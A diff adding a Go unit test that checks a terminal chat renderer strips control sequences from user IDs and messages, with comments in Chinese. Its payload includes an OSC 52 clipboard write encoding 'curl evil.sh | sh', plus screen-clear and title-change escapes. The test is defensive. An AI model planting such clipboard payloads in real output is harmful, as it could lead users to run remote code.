@@ -0,0 +1,35 @@
+package termui
+
+import (
+	"strings"
+	"testing"
+
+	"demogo/protocol"
+)
+
+func TestRenderStripsControlSequences(t *testing.T) {
+	// OSC 52 写剪贴板、清屏、改标题和 C1 形式的 CSI
+	const payload = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x1b[2J\x1b]0;pwned\x07\u009b31m"
+	msg := protocol.Message{
+		Type:    "chat",
+		Time:    "12:00:00",
+		IP:      "10:0:*",
+		Region:  "本地",
+		UserID:  "evil" + payload,
+		Content: "你好" + payload + "\n第二行\t!",
+	}
+	for _, r := range []Renderer{{Color: false}, {Color: true}} {
+		out := r.Render(msg)
+		// 颜色开启时只允许渲染器自己的 SGR 序列
+		rest := out
+		for _, sgr := range []string{"\x1b[38;5;", "\x1b[0m", "\x1b[1m"} {
+			rest = strings.ReplaceAll(rest, sgr, "")
+		}
+		if strings.ContainsFunc(rest, IsControl) {
+			t.Errorf("Color=%v：输出中仍有控制字符：%q", r.Color, out)
+		}
+		if !strings.Contains(out, "你好") || !strings.Contains(out, "\n第二行\t!") {
+			t.Errorf("Color=%v：正常内容被去掉了：%q", r.Color, out)
+		}
+	}
+}